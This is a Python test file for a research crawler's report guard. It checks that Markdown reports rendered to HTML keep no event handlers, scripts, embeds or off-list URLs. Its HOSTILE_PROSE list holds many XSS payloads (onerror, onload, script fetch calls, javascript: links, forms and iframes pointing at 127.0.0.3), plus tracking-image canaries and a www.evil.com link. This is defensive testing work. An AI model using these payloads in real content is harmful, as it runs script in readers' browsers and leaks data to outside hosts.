"""The citation guard against markup that acts on the reader's machine: the guarded report is rendered to HTML by a
CommonMark renderer (markdown-it-py as a viewer configures it, linkify on) and read back with lxml — an instrument
that shares nothing with the guard's own reading — and must hold no event handler, no script or embed, and no URL
outside the fetched set."""

from __future__ import annotations

import lxml.html
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from w3lib.url import canonicalize_url

from research_crawler.report.guard import guard_report
from research_crawler.report.models import ReportItem

ITEM = ReportItem(
    rank=1,
    title="Diffusion Models for Protein Design",
    url="https://papers.test/abs/1",
    site="https://papers.test/",
    found_on="https://papers.test/list",
    collector_score=8.0,
    authors=["Alice Smith"],
    date="2024-05-01",
)
ALLOWED = {"https://papers.test/list", "https://papers.test/", "https://papers.test/abs/1"}
CANARY = "http://127.0.0.3/track?q=secret"
VIEWER = MarkdownIt("commonmark", {"linkify": True}).enable(["table", "strikethrough", "linkify"])
VIEWER.linkify.set({"fuzzy_link": False})  # as GitHub: "arxiv.org" in a sentence stays text
ENTRY = "1. [Diffusion Models for Protein Design](https://papers.test/abs/1) — Alice Smith (2024-05-01)."


def _allowed(url: str) -> bool:
    """The fetched set as w3lib's canonical URLs (a fragment or parameter order is the same page)."""
    return url.startswith("http") and canonicalize_url(url) in {canonicalize_url(u) for u in ALLOWED}


def rendered_problems(markdown: str) -> list[str]:
    """What a viewer rendering `markdown` would run or request outside the fetched set."""
    html = VIEWER.render(markdown)
    if not html.strip():
        return []
    problems = []
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in ("script", "iframe", "object", "embed", "svg", "math", "style", "input", "form"):
            problems.append(f"<{element.tag}> element")
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or (name == "style" and "url(" in value):
                problems.append(f"{name} on <{element.tag}>")
            if name in ("href", "src", "srcset", "poster", "data", "action", "background") and not _allowed(value):
                problems.append(f"{name}={value} on <{element.tag}>")
    return problems


def guarded(draft: str) -> str:
    return guard_report(draft, items=[ITEM], allowed_urls=ALLOWED, requested_count=None).markdown


HOSTILE_PROSE = [
    "<details open ontoggle=fetch('http://127.0.0.3/')>x</details>",
    "Look: <input autofocus onfocus=alert(1)> here",
    "<div onmouseover=\"fetch('http://127.0.0.3/')\">hover</div>",
    "<a onclick=alert(1)>click</a> me",
    "<video><source onerror=alert(1)></video>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=http://127.0.0.3/></iframe>",
    "<script>fetch('http://127.0.0.3/')</script>",
    "<marquee onstart=alert(1)>scroll</marquee>",
    "<object data=http://127.0.0.3/x.swf></object>",
    "<style>@import 'http://127.0.0.3/x.css'</style>",
    "<math><mtext><a href=javascript:alert(1)>m</a></mtext></math>",
    "<form action=http://127.0.0.3/><button>go</button></form>",
    "<p style=\"background:url(http://127.0.0.3/)\">styled</p>",
    f"``![p]({CANARY})`",  # a mismatched backtick run: CommonMark renders the image
    f"``` x`y\n![p]({CANARY})\n```",  # a backtick in the info string: not a fence, the image is live
    f"[![p]({CANARY})](https://papers.test/abs/1)",  # an image inside an allowed link
    f"![p][r]\n\n[r]: {CANARY}",
    f"![p](<{CANARY}>)",
    f"![p]({CANARY} \"title\")",
    f"[x]({CANARY})",
    f"<{CANARY}>",
    f"see {CANARY} now",
    f"> ![p]({CANARY})",
    f"- item\n  ![p]({CANARY})",
    f"| a | b |\n|---|---|\n| ![p]({CANARY}) | x |",
    "![p](http://127.0.0.3/track?q=secret\u0000)",
    f"line one\r![p]({CANARY})",
    f"\t![p]({CANARY})\ttabbed",
    "![p](h&#116;tp://127.0.0.3/track)",
]


#: Inert as written, and must stay so: an unclosed fence is code; Markdown inside an HTML block is raw text until
#: the block is taken apart.
INERT = [f"```\n![p]({CANARY})", f"<details>\n![p]({CANARY})\n</details>"]


@pytest.mark.parametrize("prose", HOSTILE_PROSE + INERT)
def test_nothing_in_the_guarded_report_runs_or_calls_out(prose: str) -> None:
    draft = f"# Papers\n\n{ENTRY}\n\n{prose}\n\nThat is all.\n"
    assert rendered_problems(draft) or prose in INERT, "the case must be hostile as written"
    result = guarded(draft)
    assert rendered_problems(result) == []
    assert "Diffusion Models for Protein Design" in result, "the real entry is kept"


def test_a_www_address_github_would_link_is_removed_like_any_other_link() -> None:
    result = guard_report(f"{ENTRY}\n\nsee www.evil.com/track now\n", items=[ITEM], allowed_urls=ALLOWED,
                          requested_count=None)  # fmt: skip
    assert "evil.com" not in result.markdown and result.removed_links == ["www.evil.com/track"]


def test_text_around_removed_markup_is_kept() -> None:
    result = guarded(f"{ENTRY}\n\nThe <b>key</b> result, <details><summary>in short</summary>diffusion</details>.\n")
    assert "The key result" in result and "in short" in result and "<" not in result.replace("\\<", "")


MARKDOWN_PIECES = st.sampled_from(
    ["![", "[", "]", "(", ")", "<", ">", "`", "``", "```", "\n", "\n\n", " ", "    ", "> ", "- ", "1. ", "|",
     "---", "\\", "*", "_", "#", "!", ":", '"', "'", "=", "&", ";", "img src=", "a href=", " onerror=", "http://",
     "127.0.0.3/t", "https://papers.test/abs/1", "[r]: ", "details", "/", "www.", "x"]
)  # fmt: skip


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(MARKDOWN_PIECES, max_size=40).map("".join))
def test_random_markdown_never_renders_anything_live_after_the_guard(noise: str) -> None:
    assert rendered_problems(guarded(f"{ENTRY}\n\n{noise}\n")) == []
